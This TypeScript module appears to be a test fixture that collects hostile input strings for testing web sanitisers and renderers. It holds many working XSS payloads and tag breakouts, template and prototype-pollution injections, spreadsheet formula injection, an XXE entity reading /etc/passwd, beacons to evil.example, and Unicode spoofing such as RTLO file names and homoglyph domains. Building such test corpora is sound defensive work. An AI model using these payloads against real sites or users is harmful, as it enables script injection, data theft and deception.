/** Hostile text: what has run as script, turned text around or blown up a layout somewhere. Whatever of it runs here calls `owned()`. */
import blns from 'big-list-of-naughty-strings' with { type: 'json' }

/** Elements that run script as they are parsed, loaded, shown or touched. */
const elements = String.raw`
<script>owned()</script>
<SCRIPT>owned()</SCRIPT>
<ScRiPt>owned()</sCrIpT>
<script >owned()</script >
<script	>owned()</script>
<script/x>owned()</script>
<script src="data:text/javascript,owned()"></script>
<script src=data:,owned()></script>
<script type=module>owned()</script>
<script>owned()<!--
<scr<script>ipt>owned()</scr</script>ipt>
<<script>owned();//<</script>
<script>/*</script><script>*/owned()</script>
<script xlink:href="data:,owned()"></script>
<svg><script>owned()</script></svg>
<svg><script href="data:,owned()"/></svg>
<svg><script>owned&#40;&#41;</script></svg>
<svg onload=owned()>
<svg/onload=owned()>
<svg	onload=owned()>
<svg onload="owned()"//
<svg><animate onbegin=owned() attributeName=x dur=1s>
<svg><set onbegin=owned() attributename=x>
<svg><animate attributeName=href values=javascript:owned() /><a id=x><text y=20>x</text></a></svg>
<svg><a xlink:href="javascript:owned()"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=owned()></svg>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.owned()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=owned()></style></svg>
<svg><desc><![CDATA[</desc><script>owned()</script>]]></svg>
<svg><discard onbegin=owned()>
<math><mtext></form><form><mglyph><style></math><img src onerror=owned()>
<math><a xlink:href="javascript:owned()">x</a></math>
<math><mi//xlink:href="data:x,<script>owned()</script>">
<img src=x onerror=owned()>
<img src=x onerror="owned()">
<img src=x onerror='owned()'>
<img src=x onerror=owned&#40;&#41;>
<img src=x onerror=owned&lpar;&rpar;>
<img src=x onerror=&#111;wned()>
<img src=x onerror="&#x6f;wned()">
<img src=x:x onerror=owned()>
<img/src=x/onerror=owned()>
<img	src=x	onerror=owned()>
<img src=x onerror	=	owned()>
<IMG SRC=x ONERROR=owned()>
<img src onerror=owned()>
<img src="x" onerror="eval('owned()')">
<img src=x onerror=window['owned']()>
<img src=x onerror=top.owned()>
<img src=x onerror=setTimeout('owned()')>
<img src=x onerror=Function('owned()')()>
<img src=x onerror=[].constructor.constructor('owned()')()>
<img src=x onerror=import('data:text/javascript,owned()')>
<img src="javascript:owned()">
<img srcset="x" onerror=owned()>
<img src=data:image/png;base64,iVBORw0KGgo= onload=owned() onerror=owned()>
<img alt="><script>owned()</script>" src=x>
<img src=x id="' onerror='owned()">
<image src=x onerror=owned()>
<image href=x onerror=owned()>
<picture><source srcset=x><img onerror=owned() src=x></picture>
<video src=x onerror=owned()>
<video><source onerror=owned() src=x></video>
<video poster=javascript:owned()>
<video autoplay onloadstart=owned() src=x></video>
<audio src=x onerror=owned()>
<audio autoplay oncanplay=owned() src=data:audio/wav;base64,UklGRg==></audio>
<body onload=owned()>
<body onpageshow=owned()>
<body onhashchange=owned()>
<body background="javascript:owned()">
<html onmousemove=owned()>
<frameset onload=owned()>
<frame src=javascript:owned()>
<iframe src=javascript:owned()></iframe>
<iframe src="javascript:parent.owned()"></iframe>
<iframe srcdoc="<script>parent.owned()</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.owned()&lt;/script&gt;"></iframe>
<iframe onload=owned()></iframe>
<iframe src="data:text/html,<script>parent.owned()</script>"></iframe>
<iframe src=vbscript:owned()></iframe>
<iframe src="app://bundle/index.html" onload=owned()></iframe>
<object data=javascript:owned()>
<object data="data:text/html,<script>parent.owned()</script>"></object>
<object type=text/html data=x onerror=owned()></object>
<object classid="clsid:ae24fdae" onerror=owned()></object>
<embed src=javascript:owned()>
<embed src="data:text/html,<script>parent.owned()</script>">
<embed code=x onload=owned()>
<applet code=x onerror=owned()></applet>
<portal src=javascript:owned()></portal>
<fencedframe src=javascript:owned()></fencedframe>
<webview src="data:text/html,<script>owned()</script>" nodeintegration allowpopups></webview>
<webview src=file:///etc/passwd></webview>
<details open ontoggle=owned()>
<details ontoggle=owned() open><summary>x</summary></details>
<dialog open onclose=owned()><form method=dialog><button autofocus>x</button></form></dialog>
<input autofocus onfocus=owned()>
<input onblur=owned() autofocus><input autofocus>
<input type=image src=x onerror=owned()>
<select autofocus onfocus=owned()>
<textarea autofocus onfocus=owned()></textarea>
<keygen autofocus onfocus=owned()>
<button autofocus onfocus=owned()>x</button>
<button popovertarget=x>y</button><x onbeforetoggle=owned() popover id=x>z</x>
<form><button formaction=javascript:owned() autofocus>x</button></form>
<form action=javascript:owned()><input type=submit></form>
<form onformdata=owned()><button>x</button></form>
<isindex type=image src=1 onerror=owned()>
<marquee onstart=owned()>x</marquee>
<marquee loop=1 width=0 onfinish=owned()>x</marquee>
<bgsound src=javascript:owned()>
<table background=javascript:owned()></table>
<td background="javascript:owned()">
<link rel=stylesheet href="data:text/css,*{background:url(javascript:owned())}">
<link rel=import href="data:text/html,<script>owned()</script>">
<link rel=prefetch href=x onload=owned() onerror=owned()>
<link rel=modulepreload href=data:text/javascript,owned()>
<meta http-equiv=refresh content="0;url=javascript:owned()">
<meta http-equiv=refresh content="0;url=data:text/html,<script>owned()</script>">
<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">
<base href="javascript:owned()//">
<base target=_blank><a href=javascript:owned()>x</a>
<style>@import 'data:text/css,*{x:expression(owned())}';</style>
<style>*{background:url("javascript:owned()")}</style>
<style>@keyframes x{}</style><x style="animation-name:x" onanimationstart="owned()"></x>
<style onload=owned()></style>
<x style="transition:color 1s" ontransitionend=owned()>
<x onclick=owned() tabindex=0 autofocus onfocus=owned()>x
<x contenteditable onfocus=owned() autofocus>x</x>
<x onpointerenter=owned() style=position:fixed;inset:0>x</x>
<x onmouseover=owned() style=display:block;font-size:999px>x</x>
<xss oncontentvisibilityautostatechange=owned() style=display:block;content-visibility:auto>
<noscript><p title="</noscript><img src=x onerror=owned()>">
<template><script>owned()</script></template>
<template shadowrootmode=open><script>owned()</script></template>
<title><img src=x onerror=owned()></title>
<textarea></textarea><script>owned()</script>
<xmp><p title="</xmp><svg/onload=owned()>"></xmp>
<plaintext><img src=x onerror=owned()>
<noembed><img src=x onerror=owned()></noembed>
<noframes></noframes><img src=x onerror=owned()>
<!--><img src=x onerror=owned()>-->
<!--[if gte IE 4]><script>owned()</script><![endif]-->
<![CDATA[<script>owned()</script>]]>
<?xml-stylesheet href="javascript:owned()"?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>
<a href=javascript:owned()>x</a>
<a href="javascript&colon;owned()">x</a>
<a href="&#106;avascript:owned()">x</a>
<a href="jav&#x09;ascript:owned()">x</a>
<a href=" javascript:owned()">x</a>
<a href="data:text/html,<script>owned()</script>" target=_blank>x</a>
<a href="vbscript:owned()">x</a>
<a href="file:///etc/passwd">x</a>
<a href="smb://evil.example/x">x</a>
<a ping="https://evil.example/" href="#">x</a>
<a href=x onfocus=owned() autofocus>x</a>
<area href=javascript:owned() shape=default>
<p onbeforescriptexecute=owned()>
<div style="width:expression(owned())">
<div style="background-image:url('javascript:owned()')">
<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>
<div id=__proto__ class=constructor></div>
<form id=sockdeck><input name=call></form>
<img name=getElementById><img id=body>
`

/** What breaks out of a quote, a tag, a comment, a script, a URL or a template that it is put into. */
const breakouts = String.raw`
"><script>owned()</script>
'><script>owned()</script>
"><img src=x onerror=owned()>
'><svg onload=owned()>
" onfocus=owned() autofocus="
' onfocus=owned() autofocus='
" onmouseover=owned() x="
x onerror=owned()
--><script>owned()</script>
]]><script>owned()</script>
</script><script>owned()</script>
</title><script>owned()</script>
</textarea><script>owned()</script>
</style><script>owned()</script>
</svg><script>owned()</script>
*/owned()/*
';owned();//
";owned();//
\';owned();//
\x3cscript\x3eowned()\x3c/script\x3e
\u003cscript\u003eowned()\u003c/script\u003e
%3Cscript%3Eowned()%3C/script%3E
%253Cscript%253Eowned()%253C/script%253E
&lt;script&gt;owned()&lt;/script&gt;
&#60;script&#62;owned()&#60;/script&#62;
+ADw-script+AD4-owned()+ADw-/script+AD4-
javascript:owned()
JaVaScRiPt:owned()
javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+owned()//'>
data:text/html,<script>owned()</script>
data:text/html;base64,PHNjcmlwdD5vd25lZCgpPC9zY3JpcHQ+
{{constructor.constructor('owned()')()}}
{{7*7}}
{{$on.constructor('owned()')()}}
{@html '<img src=x onerror=owned()>'}
{#if owned()}x{/if}
#{owned()}
<%= owned() %>
<?php owned() ?>
[[owned()]]
@{owned()}
{"__proto__": {"owned": true}}
{"constructor": {"prototype": {"owned": true}}}
=cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
`

const lines = (table: string) => table.split('\n').filter((line) => line !== '')

export const scripts: readonly string[] = [...lines(elements), ...lines(breakouts), '${owned()}', '`;owned();`', '\u2028owned()//']

const zalgo = (text: string, marks: number) => text.replace(/./g, (char) => char + '\u0300\u0316\u0334\u0489\u20DD'.repeat(marks))

/** What turns text around, hides in it, or takes more room than it should. */
export const shapes: readonly string[] = [
  'invoice\u202Efdp.exe', '\u202Dforced\u202C left', '\u2066isolated\u2069\u2067right\u2069', '\u202E\u2066// only admin\u2069 \u2066', 'level\u202E \u2066// check\u2069 \u2066 != "user"',
  '\u200Bzero\u200Cwidth\u200Djoiners\uFEFF', 'soft\u00ADhyphen', 'אבג def عربي', '\u2028line\u2029paragraph', '\u3164\u115F\uFFA0blank', '\u{E0041}\u{E007F}tags',
  'bell\u0007 esc\u001B[31mred\u001B[0m', '\u001B]0;owned\u0007', 'nul\u0000in', '\u0008\u007Fback', 'c1\u0085\u009B31m', 'tab\tand\r\nbreak', '\uD800 lone', '\uFFFE\uFFFF',
  zalgo('HE COMES', 20), zalgo('x', 200), '\u0300'.repeat(300), '﷽'.repeat(60), '𒐫'.repeat(60), 'W'.repeat(500), 'x '.repeat(250), '👩‍👩‍👧‍👦'.repeat(40), '\u0E49'.repeat(200), 'pаypal.com', 'ﬃﬁ①②',
]

export const naughty: readonly string[] = blns

export const hostileTexts: readonly string[] = [...new Set([...scripts, ...shapes, ...naughty])]
